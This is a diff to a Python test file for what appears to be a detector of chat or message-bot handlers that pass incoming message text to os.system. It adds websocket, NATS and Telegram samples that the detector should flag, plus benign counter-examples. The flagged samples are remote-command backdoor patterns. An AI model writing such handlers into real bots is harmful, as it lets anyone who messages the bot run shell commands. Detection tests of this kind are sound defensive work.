@@ -22,6 +22,10 @@ def told(source: str) -> bool:
         "import telebot, os\nb = telebot.TeleBot('x')\n@b.message_handler(commands=['a'])\ndef h(m): os.system(m.text)",
         "import socketio, os\ns = socketio.Client()\n@s.on('x')\ndef h(d): os.system(d)",
         "import paho.mqtt.client as q, os\nc = q.Client()\ndef h(c, u, m): os.system(m.payload)\nc.on_message = h",
+        "import websocket, os\ndef h(ws, m): os.system(m)\nwebsocket.WebSocketApp('wss://x.invalid', on_message=h)",
+        "import websocket, os\nclass F:\n  def h(self, ws, m): self.go(m)\n  def go(self, m): os.system(m)\n  def run(self): websocket.WebSocketApp('wss://x.invalid', on_message=self.h)",
+        "import nats, os\nc = nats.NATS()\ndef h(m): os.system(m.data)\nc.subscribe('x', h)",
+        "from telegram.ext import CommandHandler\nimport os\ndef h(u, c): os.system(u.text)\nCommandHandler('x', h)",
     ],
 )
 def test_what_is_written_is_started(source: str) -> None:
@@ -33,6 +37,8 @@ def test_what_is_written_is_started(source: str) -> None:
     [
         BOT + "@c.event\nasync def on_message(m):\n  subprocess.run('git describe')",
         BOT + "def run(line):\n  subprocess.run(line)",
+        "import websocket, os\ndef h(ws, m): os.system('date')\nwebsocket.WebSocketApp('wss://x.invalid', on_message=h)",
+        "import other, os\ndef h(ws, m): os.system(m)\nother.App('wss://x.invalid', on_message=h)",
         "import click, subprocess\napp = click.Group()\n@app.command()\ndef run(line): subprocess.run(line)",
         "import discord, subprocess\nclass C:\n  def event(self, f): return f\nc = C()\n@c.event\ndef h(m): subprocess.run(m)",
     ],
